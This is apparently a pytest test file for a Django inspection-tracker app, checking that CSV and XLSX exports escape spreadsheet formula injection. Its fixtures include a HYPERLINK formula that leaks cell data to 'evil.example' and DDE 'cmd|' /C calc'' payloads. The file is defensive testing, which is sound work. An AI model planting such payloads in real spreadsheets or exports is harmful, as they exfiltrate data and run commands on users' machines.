"""Spreadsheet formula injection: user text that a spreadsheet would run as a formula is written
as text in every export (tracker CSV and XLSX, the Police and Crime Panel XLSX), while numbers
and dates stay typed."""

import csv
import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from progress.services import Change, add_update

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NORFOLK_TEXT = "+1+cmd|' /C calc'!A0"
JOINT_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
UPDATE_TEXT = "-2+3+cmd|' /C calc'!A0"
OWNER = "\t=1+1"
SECOND_UPDATE = "\r=1+1"


@pytest.fixture
def hostile(world, joint):
    """The joint report with text a spreadsheet would run, in Norfolk's findings and updates."""
    joint.inspection.title = TITLE
    joint.inspection.save()
    joint.norfolk_afi.text = NORFOLK_TEXT
    joint.norfolk_afi.save()
    joint.joint_afi.text = JOINT_TEXT
    joint.joint_afi.save()
    staff = world.users["own_staff"]
    today = timezone.localdate()
    change = Change(text=UPDATE_TEXT, dated=today, status="being_progressed", owner=OWNER)
    add_update(joint.norfolk_afi, joint.norfolk_force, staff, change)
    add_update(joint.joint_afi, joint.norfolk_force, staff, Change(text=SECOND_UPDATE, dated=today))
    return joint


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain text = fine", "Plain text = fine"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
        (None, None),
    ],
)
def test_only_strings_that_start_a_formula_are_escaped(value, written):
    from core.spreadsheets import safe_cell

    assert safe_cell(value) == written


def test_tracker_csv_writes_formulas_as_text(as_user, hostile):
    response = as_user("own_manager").get(
        reverse("tracker:export_csv"), {"inspection": hostile.inspection.pk}
    )
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert rows and all(row[0] == "'" + TITLE for row in rows)
    assert {row[4] for row in rows} == {"'" + NORFOLK_TEXT, "'" + JOINT_TEXT}
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    assert {row[3] for row in rows} == {"1", "2"}  # report numbers as written
    assert all(row[1] == hostile.inspection.publication_date.isoformat() for row in rows)


def sheet_xml_has_no_formula(content):
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        return all(
            b"<f>" not in book.read(name) and b"<f " not in book.read(name) for name in sheets
        )


def test_tracker_xlsx_writes_formulas_as_text_and_keeps_types(as_user, hostile):
    response = as_user("own_manager").get(
        reverse("tracker:export_xlsx"), {"inspection": hostile.inspection.pk}
    )
    assert sheet_xml_has_no_formula(response.content)
    sheet = load_workbook(io.BytesIO(response.content))["Tracker"]
    rows = list(sheet.iter_rows(min_row=2))
    assert rows
    for row in rows:
        assert row[0].value == "'" + TITLE and row[0].data_type == "s"
        assert row[4].value in ("'" + NORFOLK_TEXT, "'" + JOINT_TEXT)
        assert row[4].data_type == "s"
        assert isinstance(row[1].value, datetime.datetime)  # published: a date cell
        assert row[1].value.date() == hostile.inspection.publication_date
        assert isinstance(row[3].value, int)  # the report number stays a number


def test_panel_report_xlsx_writes_formulas_as_text_and_keeps_types(as_user, hostile):
    today = timezone.localdate()
    start, end = today - datetime.timedelta(days=365), today + datetime.timedelta(days=365)
    period = {
        "start_0": start.day,
        "start_1": start.month,
        "start_2": start.year,
        "end_0": end.day,
        "end_1": end.month,
        "end_2": end.year,
    }
    response = as_user("own_manager").get(
        reverse("tracker:panel_report"), {**period, "output": "xlsx"}
    )
    assert response.status_code == 200
    assert sheet_xml_has_no_formula(response.content)
    book = load_workbook(io.BytesIO(response.content))
    rows = [
        row for row in book["Open findings"].iter_rows(min_row=2) if row[0].value == "'" + TITLE
    ]
    assert len(rows) == 2
    by_text = {row[4].value: row for row in rows}
    assert set(by_text) == {"'" + NORFOLK_TEXT, "'" + JOINT_TEXT}
    norfolk = by_text["'" + NORFOLK_TEXT]
    assert norfolk[8].value == "'" + OWNER and norfolk[8].data_type == "s"
    assert norfolk[11].value == "'" + UPDATE_TEXT and norfolk[11].data_type == "s"
    # XML keeps no carriage return (it reads back as a line feed); the quote is what matters.
    assert by_text["'" + JOINT_TEXT][11].value in ("'\r=1+1", "'\n=1+1")
    assert isinstance(norfolk[3].value, int)
    assert norfolk[12].value.date() == today  # latest update date: a date cell
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_control_characters_in_text_do_not_fail_the_xlsx(world, as_user):
    """Pasted text can hold control characters that XML cannot: the workbook is still made,
    and each shows as a replacement character."""
    world.afi.text = "Backlog\x01 of\x0b vetting"
    world.afi.save()
    response = as_user("own_staff").get(reverse("tracker:export_xlsx"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    texts = [cell for row in book.active.values for cell in row if isinstance(cell, str)]
    assert "Backlog\ufffd of\ufffd vetting" in texts
